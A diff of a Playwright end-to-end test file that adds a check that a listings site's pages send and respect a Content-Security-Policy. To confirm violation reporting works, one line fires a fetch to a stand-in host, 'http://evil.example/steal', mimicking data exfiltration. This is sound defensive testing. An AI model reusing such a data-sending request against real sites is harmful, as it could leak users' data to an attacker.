@@ -6,6 +6,8 @@ import re
 
 from playwright.sync_api import Page, expect
 
+from tests.e2e.conftest import VIEWPORTS, watch_csp
+
 
 def test_home_feed_and_listing_page(ui: Page):
     ui.goto("/")
@@ -23,6 +25,31 @@ def test_home_feed_and_listing_page(ui: Page):
     expect(image).to_be_visible()
     assert image.get_attribute("alt")
     assert image.evaluate("img => img.complete && img.naturalWidth > 0")
+
+
+def test_pages_keep_to_the_content_security_policy(browser, app, size):
+    """The policy is sent with every page, and the pages work within it."""
+    context = browser.new_context(viewport=VIEWPORTS[size], base_url=app.url, locale="en-US")
+    context.set_default_timeout(15_000)
+    violations = watch_csp(context)
+    try:
+        page = context.new_page()
+        response = page.goto("/")
+        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
+        expect(page.get_by_test_id("listing-card").first).to_be_visible()
+        page.get_by_test_id("listing-card-link").first.click()
+        expect(page.get_by_test_id("listing-gallery-image").first).to_be_visible()
+        page.goto("/search")
+        expect(page.get_by_test_id("results-count")).to_be_visible()
+        page.goto("/login")
+        expect(page.get_by_test_id("login-email")).to_be_visible()
+        assert violations == []
+        # The watch is not blind: a request to another site is refused and reported.
+        page.evaluate("fetch('http://evil.example/steal').catch(() => null)")
+        page.wait_for_timeout(500)
+        assert any("connect-src" in v for v in violations)
+    finally:
+        context.close()
 
 
 def test_unknown_listing_shows_a_way_back(ui: Page):
